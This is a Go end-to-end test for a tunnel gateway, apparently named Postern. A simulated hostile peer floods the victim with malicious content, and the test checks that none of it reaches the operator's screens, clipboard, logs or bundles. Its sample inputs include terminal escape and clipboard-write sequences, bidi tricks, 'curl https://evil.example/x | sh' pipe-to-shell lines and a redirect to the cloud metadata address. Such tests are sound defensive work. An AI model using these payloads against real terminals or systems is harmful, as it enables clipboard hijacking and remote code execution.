//go:build linux && e2e

package e2e

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"context"
	"crypto/tls"
	"encoding/base64"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"log"
	"maps"
	"net"
	"net/http"
	"net/netip"
	"path/filepath"
	"regexp"
	"strings"
	"sync"
	"testing"
	"time"
	"unicode"

	"github.com/postern-dev/postern/control/api"
	"github.com/postern-dev/postern/control/catalogue"
	"github.com/postern-dev/postern/testenv/netlab"
	"github.com/postern-dev/postern/testenv/pki"
	"github.com/postern-dev/postern/tunnel/peer"
)

// malice are texts that a hostile peer wants on someone's screen or clipboard. Each contains the
// word evil, by which it is found.
var malice = []string{
	"\x1b[2J\x1b[31mevil",
	"\x1b]52;c;ZXZpbA==\x07evil",
	"\u009b31mevil\u009d52;c;ZXZpbA==\u009c",
	"\u202eevil\u2066\u200f",
	"curl https://evil.example/x | sh",
	"`curl evil.example|sh`$(evil)",
	"evil\nevil\r\nevil",
	"evil" + strings.Repeat("!", 5000),
}

// villain is a peer that answers as no gateway would, with arbitrary content. Its tunnel is stock
// WireGuard.
type villain struct {
	*rawPeer
	t       *testing.T
	overlay string
	// authority is that of the valid certificate, in PEM.
	authority string

	mu    sync.Mutex
	turns map[string]int // how often each path was requested
}

// newVillain returns the peer called hostile of the right gateway, which offers everything.
func newVillain(t *testing.T, s *sites, key peer.PrivateKey) *villain {
	t.Helper()
	v := &villain{rawPeer: hostilePeer(t, s, key), t: t, overlay: peer.OverlayAddr(key.Public()).String(), turns: map[string]int{}}
	v.serve(api.PortAuth, nil, http.HandlerFunc(v.gateway))
	v.serve(api.PortAPIServer, v.certificates(), http.HandlerFunc(v.apiServer))
	return v
}

// certificates alternates between two: one with wrong names, and a valid one whose authority is
// announced, so that the victim sends more requests.
func (v *villain) certificates() *tls.Config {
	v.t.Helper()
	var certs []tls.Certificate
	for _, names := range [][]string{{"\x1b[2Jevil", "curl https://evil.example|sh"}, {"kubernetes.default.svc"}} {
		ca, err := pki.NewCA("evil \x1b]52;c;ZXZpbA==\x07 curl evil.example | sh")
		if err != nil {
			v.t.Fatal(err)
		}
		pair, err := ca.Server(names...)
		if err != nil {
			v.t.Fatal(err)
		}
		cert, err := pair.TLS()
		if err != nil {
			v.t.Fatal(err)
		}
		certs = append(certs, cert)
		v.authority = string(ca.CertPEM())
	}
	return &tls.Config{GetCertificate: func(*tls.ClientHelloInfo) (*tls.Certificate, error) {
		return &certs[min(v.turn("tls")%3, 1)], nil
	}}
}

// serve answers on a port inside the tunnel.
func (v *villain) serve(port uint16, secure *tls.Config, h http.Handler) {
	v.t.Helper()
	l, err := v.host.Listen(v.t.Context(), netip.AddrPortFrom(netip.MustParseAddr(v.overlay), port))
	if err != nil {
		v.t.Fatal(err)
	}
	if secure != nil {
		l = tls.NewListener(l, secure)
	}
	srv := &http.Server{Handler: h, ErrorLog: log.New(io.Discard, "", 0), ReadHeaderTimeout: patience}
	done := make(chan struct{})
	go func() {
		defer close(done)
		if err := srv.Serve(l); !errors.Is(err, http.ErrServerClosed) {
			v.t.Errorf("the villain's server: %v", err)
		}
	}()
	v.t.Cleanup(func() { srv.Close(); <-done })
}

// turn counts the requests for a path.
func (v *villain) turn(path string) int {
	v.mu.Lock()
	defer v.mu.Unlock()
	n := v.turns[path]
	v.turns[path]++
	return n
}

func (v *villain) asked() map[string]int {
	v.mu.Lock()
	defer v.mu.Unlock()
	return maps.Clone(v.turns)
}

// gateway is the auth service, which a victim asks for hello and for an identity.
func (v *villain) gateway(w http.ResponseWriter, r *http.Request) {
	n := v.turn(r.URL.Path)
	text := malice[n%len(malice)]
	w.Header().Set("Postern-Version", "1.0")
	if r.URL.Path != "/v1/hello" && n%2 == 0 {
		v.refuse(w, n, text)
		return
	}
	switch {
	case r.URL.Path == "/v1/identity":
		answer(w, map[string]any{"version": "1.0", "certificate": text, "notAfter": text})
	case n%7 == 3:
		v.refuse(w, n, text)
	case n%7 == 4:
		_, _ = io.Copy(w, io.LimitReader(zeros{}, 10<<20))
	case n%7 == 5:
		raw(w, "HTTP/1.1 500 "+text+"\r\nX-Evil: "+text+"\r\n\r\n"+text)
	case n%7 == 6:
		http.Redirect(w, r, "http://169.254.169.254/evil", http.StatusTemporaryRedirect)
	default:
		answer(w, v.hello(n, text))
	}
}

// hello returns a hello that a victim accepts as far as possible.
func (v *villain) hello(n int, text string) map[string]any {
	many := []string{"auth", "apiServer", text}
	ports := map[string]int{text: 1}
	if n%7 == 1 {
		for i := range 10_000 {
			name := fmt.Sprintf("s%d", i)
			many = append(many, name)
			ports[name] = 1 + i
		}
	}
	h := map[string]any{
		"version": "1.0", "software": text, "name": "hostile", "capabilities": many, "offers": many, "ports": ports,
		"apiServer": map[string]string{"serverName": text, "caData": v.authority}, "report": hostileReport(text, string(catalogue.Codes()[n%len(catalogue.Codes())].Code)),
	}
	if n%7 == 2 {
		h["name"] = text
	}
	return h
}

// refuse answers with an error whose every word is the villain's.
func (v *villain) refuse(w http.ResponseWriter, n int, text string) {
	status := []int{http.StatusForbidden, http.StatusInternalServerError, http.StatusConflict, http.StatusTeapot}[n/2%4]
	w.Header().Set("Retry-After", text[:min(len(text), 20)])
	w.WriteHeader(status)
	code := []string{"denied", text}[n/2%2]
	b, _ := json.Marshal(map[string]string{"version": "1.0", "code": code, "message": text})
	_, _ = w.Write(b)
}

// apiServer is an API server whose name, version and every other word is the villain's.
func (v *villain) apiServer(w http.ResponseWriter, r *http.Request) {
	text := malice[v.turn("apiServer")%len(malice)]
	w.Header().Set("WWW-Authenticate", "Evil")
	b, _ := json.Marshal(map[string]string{"major": text, "minor": text, "gitVersion": text, "message": text})
	_, _ = w.Write(b)
}

func answer(w http.ResponseWriter, document any) {
	b, _ := json.Marshal(document)
	_, _ = w.Write(b)
}

// raw answers with bytes that no library would send.
func raw(w http.ResponseWriter, text string) {
	conn, _, err := w.(http.Hijacker).Hijack()
	if err != nil {
		return
	}
	defer conn.Close()
	_, _ = io.WriteString(conn, text)
}

type zeros struct{}

func (zeros) Read(b []byte) (int, error) { clear(b); return len(b), nil }

// hostileReport puts one text everywhere.
func hostileReport(text, code string) map[string]any {
	addresses := []string{"169.254.169.254:51820", "127.0.0.1:51820", "10.96.0.1:443"}
	params := map[string]any{
		"failure": text, "beside": text, "serverName": text, "names": []string{text}, "issuer": text, "authorities": []string{text},
		"version": text, "ownVersion": text, "relay": text, "detail": text, "path": text, "file": text, "key": text, "upstream": text,
		"fix": text, "command": text,
	}
	verdict := func(target, code string, address any) map[string]any {
		p := maps.Clone(params)
		p["address"] = address
		return map[string]any{"target": target, "outcome": "error", "code": code, "stage": text, "cause": text, "fix": text, "params": p}
	}
	return map[string]any{
		"version": "1.0", "at": time.Now().UTC().Format(time.RFC3339), "gateway": "hostile", "cause": text, "fix": text,
		"verdicts": []any{verdict("gateway", code, addresses[0]), verdict("auth", code, text), verdict("apiServer", text, addresses[1])},
		"hears":    map[string]any{"handshake": 1}, "nat": map[string]string{"mapping": text, "filtering": text},
	}
}

// TestHostilePeer lets a peer send the worst in every possible way, and looks for traces of it
// wherever an operator looks.
func TestHostilePeer(t *testing.T) {
	t.Parallel()
	key := newKey(t)
	ca, err := pki.NewCA("peers")
	if err != nil {
		t.Fatal(err)
	}
	pair, err := ca.Pair()
	if err != nil {
		t.Fatal(err)
	}
	certFile, keyFile, err := pair.Write(tempDir(t), "ca")
	if err != nil {
		t.Fatal(err)
	}
	s := newSites(t, dial, dial, ways{configure: func(spec *api.GatewaySpec) {
		spec.Discovery.Exclude = []string{serviceRange}
		spec.Services.APIServer = &api.APIServerService{Address: apiUpstream}
		spec.Services.Auth = &api.AuthService{Issuer: &api.Issuer{LocalCA: &api.LocalCA{CertFile: certFile, KeyFile: keyFile}}}
		spec.Peers = []api.Peer{{
			Name: "hostile", PublicKey: key.Public().String(), Endpoints: []string{leftPublic + ":51820"},
			Allow: []string{api.ServiceAuth, api.ServiceAPIServer}, Local: &api.PeerLocal{APIServer: "127.0.0.1:7443"},
		}}
	}})
	victim := s.right.gateway
	wrong := victim.host.MeterSent(forbidden()...)
	far := s.core.Drop("ip daddr 169.254.0.0/16", "ip daddr "+serviceRange) // TCP as well
	victim.startDebug()
	before := rssAnon(t, victim.proc.PID())
	peak := watchPeak(t, victim.proc.PID())
	v := newVillain(t, s, key)
	term := newTerminal(t, victim, 120, 40)
	term.run("postern tui")
	term.await("the overview", "hostile", "[1 Overview]")
	var seen evidence
	for round := range len(malice) {
		v.attack(round)
		seen.glance(victim, term)
		if round%4 == 3 { // everything takes its time
			seen.gather(victim, term, "hostile")
		}
	}
	highest := peak()
	seen.addCommands(t, term.bytes())
	seen.check(t)
	t.Logf("asked for: %v", v.asked())
	for path, want := range map[string]int{"/v1/hello": len(malice), "/v1/identity": 1, "tls": len(malice), "apiServer": 1} {
		if n := v.asked()[path]; n < want {
			t.Errorf("the villain was asked for %s %d times, want at least %d: not everything was tried", path, n, want)
		}
	}
	if _, sent, err := wrong.Read(within(t, patience)); err != nil || sent.Packets != 0 {
		t.Errorf("%d datagrams were sent where none may be, %v", sent.Packets, err)
	}
	if n, err := far.Dropped(within(t, patience)); err != nil || n.Packets != 0 {
		t.Errorf("%d packets left for the metadata service or the Service range, %v", n.Packets, err)
	}
	const growth = 64 << 20
	t.Logf("RssAnon: %.1f MB before, at most %.1f MB", mb(before), mb(highest))
	if highest > before+growth {
		t.Errorf("RssAnon went from %.1f to %.1f MB, by more than %.0f", mb(before), mb(highest), mb(growth))
	}
}

// startDebug is start with debug logging.
func (g *gateway) startDebug() {
	g.t.Helper()
	g.proc = g.host.Start(netlab.Command{Args: []string{g.bin, "gateway", "--config", g.configFile(), "--log-level", "debug"}})
	g.waitReady()
}

// attack sends the victim everything that can be sent, in one of its forms.
func (v *villain) attack(round int) {
	t := v.t
	t.Helper()
	text := malice[round%len(malice)]
	codes := catalogue.Codes()
	code := string(codes[(round*7)%len(codes)].Code)
	send := func(path string, document any) {
		t.Helper()
		ctx, cancel := context.WithTimeout(t.Context(), patience)
		defer cancel()
		status, body, err := v.post(ctx, path, document)
		if err != nil && !errors.Is(err, net.ErrClosed) && !strings.Contains(err.Error(), "reset") && !strings.Contains(err.Error(), "pipe") {
			t.Errorf("round %d: %s: %v", round, path, err)
		}
		if status >= 500 {
			t.Errorf("round %d: %s: status %d: %.200s", round, path, status, body)
		}
	}
	send("/v1/report", hostileReport(text, code))
	many := hostileReport(text, code)
	names := make([]string, 10_000)
	for i := range names {
		names[i] = text[:min(len(text), 40)]
	}
	many["verdicts"].([]any)[1].(map[string]any)["params"].(map[string]any)["names"] = names
	send("/v1/report", many)
	send("/v1/report", map[string]any{"version": "1.0", "gateway": strings.Repeat("evil", 10<<18)})
	send("/v1/report", text)
	candidates := []any{}
	for i, a := range hostileAddrs() {
		candidates = append(candidates, map[string]any{"addr": netip.AddrPortFrom(netip.MustParseAddr(a), gatewayPort), "source": text, "reason": text, "seq": i})
	}
	send("/v1/path", map[string]any{"version": "1.0", "boot": 1, "seq": 1 + round, "candidates": candidates, "event": text})
	send("/v1/path", map[string]any{"version": text, "boot": text})
	send("/v1/identity", map[string]any{"version": "1.0", "csr": text})
	send("/v1/redeem", redemption{"1.0", newKey(t).Public().String(), text, []string{text}, []byte(text)})
	send("/v1/evil"+fmt.Sprint(round), map[string]any{"version": text})
}

// evidence is everything that an operator saw, by place.
type evidence struct {
	mu    sync.Mutex
	where []string
	text  []string
}

func (e *evidence) add(where, text string) {
	e.mu.Lock()
	defer e.mu.Unlock()
	e.where, e.text = append(e.where, where), append(e.text, text)
}

// run adds a command's output.
func (e *evidence) run(g *gateway, args ...string) {
	g.t.Helper()
	r := g.postern(within(g.t, patience), args...)
	e.add(strings.Join(args, " "), r.stdout+r.stderr)
}

// glance collects what changes from one moment to the next.
func (e *evidence) glance(g *gateway, term *terminal) {
	g.t.Helper()
	e.run(g, "check", "-o", "json")
	e.run(g, "status", "-o", "json")
	// Whatever the fixes of the first faults are, they are copied, or missing values are asked for. One
	// that only says what to do is not.
	term.press("4", "r", "g", "c", "j", "c", "j", "c")
	term.await("the checks", "[4 ")
	e.add("tui, the checks", strip(term.styled()))
}

// gather runs every command that shows something, and visits every view of the screen if there is
// one.
func (e *evidence) gather(g *gateway, term *terminal, peerName string) {
	g.t.Helper()
	commands := make(chan []string)
	var workers sync.WaitGroup
	for range 6 {
		workers.Go(func() {
			for args := range commands {
				e.run(g, args...)
			}
		})
	}
	for _, args := range everyCommand(peerName) {
		commands <- args
	}
	close(commands)
	workers.Wait()
	e.add("bundle -f", g.postern(within(g.t, patience), "bundle", "-f", filepath.Join(tempDir(g.t), "bundle.tar.gz")).stderr)
	for name, text := range unpack(g.t, g.must("bundle", "-f", "-")) {
		e.add(name, text)
	}
	metrics, err := g.httpGet("/metrics")
	if err != nil {
		g.t.Error(err)
	}
	e.add("metrics", metrics)
	e.add("log", g.proc.Stderr())
	if term == nil {
		return
	}
	term.press("x") // an unassigned key, which leaves a selection
	for _, view := range []string{"1", "2", "3", "4", "5", "6", "7", "8"} {
		term.press(view)
		term.await("view "+view, "["+view+" ")
		e.add("tui, view "+view, strip(term.styled()))
	}
}

// everyCommand returns all commands that show something about a gateway or a peer, in all forms.
func everyCommand(peerName string) [][]string {
	out := [][]string{
		{"path", peerName}, {"path", peerName, "--diagram"}, {"path", peerName, "-o", "json"}, {"history", peerName}, {"history", peerName, "-o", "json"}, {"peer", "list"}, {"peer", "show", peerName}, {"config", "view"}, {"tui", "--once"}, {"kubeconfig", peerName},
		{"netcheck"}, {"netcheck", "-o", "json"}, {"ping", peerName, "-c", "1"}, {"ping", peerName, "-c", "1", "-o", "json"},
	}
	for _, format := range []string{"table", "wide", "json", "yaml"} {
		out = append(out, []string{"status", "-o", format}, []string{"status", peerName, "-o", format})
	}
	for _, format := range []string{"table", "json", "junit"} {
		out = append(out, []string{"check", "-o", format}, []string{"check", peerName, "-o", format})
	}
	for _, layer := range []string{"probe", "wg", "overlay", "auth", "apiServer"} {
		out = append(out, []string{"ping", peerName, "-c", "1", "--layer", layer})
	}
	return out
}

// osc matches an operating system command in a terminal's input.
var osc = regexp.MustCompile("(?:\x1b\\]|\u009d)([^\x07\x1b\u009c]*)")

// addCommands adds the terminal commands: only the copying of our own fixes is expected, since c
// was pressed.
func (e *evidence) addCommands(t *testing.T, written string) {
	t.Helper()
	copies := 0
	for _, m := range osc.FindAllStringSubmatch(written, -1) {
		text, ok := strings.CutPrefix(m[1], "52;c;")
		clip, err := base64.StdEncoding.DecodeString(text)
		if !ok || err != nil {
			t.Errorf("the terminal was told %q", m[1])
			continue
		}
		copies++
		e.add("the clipboard", string(clip))
	}
	if copies == 0 {
		t.Error("no fix was copied: nothing was tried")
	}
}

// strip removes tmux's colour sequences; anything else would come from the program.
func strip(captured string) string { return sgr.ReplaceAllString(captured, "") }

// trace matches a piece of malice: every text has one, whatever its form.
var trace = regexp.MustCompile(`(?i)evil|ZXZpbA`)

// check searches everything for malice.
func (e *evidence) check(t *testing.T) {
	t.Helper()
	told := map[string]bool{}
	for i, text := range e.text {
		where := e.where[i]
		if told[where] {
			continue
		}
		if at := trace.FindStringIndex(text); at != nil {
			told[where] = true
			t.Errorf("%s shows %q", where, around(text, at[0]))
			continue
		}
		for at, r := range text {
			if r != '\n' && (unicode.IsControl(r) || unicode.Is(unicode.Bidi_Control, r)) {
				told[where] = true
				t.Errorf("%s has %U: %q", where, r, around(text, at))
				break
			}
		}
		const most = 1 << 20
		if len(text) > most && where != "log" {
			told[where] = true
			t.Errorf("%s is %d bytes long", where, len(text))
		}
	}
}

// around returns the surroundings of a place in a text.
func around(text string, at int) string {
	return text[max(0, at-160):min(len(text), at+120)]
}

// unpack reads a bundle.
func unpack(t *testing.T, archive string) map[string]string {
	t.Helper()
	zr, err := gzip.NewReader(strings.NewReader(archive))
	if err != nil {
		t.Fatalf("the bundle: %v", err)
	}
	files := map[string]string{}
	for tr := tar.NewReader(zr); ; {
		h, err := tr.Next()
		if errors.Is(err, io.EOF) {
			return files
		}
		if err != nil {
			t.Fatalf("the bundle: %v", err)
		}
		var b bytes.Buffer
		if _, err := io.Copy(&b, tr); err != nil {
			t.Fatalf("the bundle: %v", err)
		}
		files[h.Name] = b.String()
	}
}
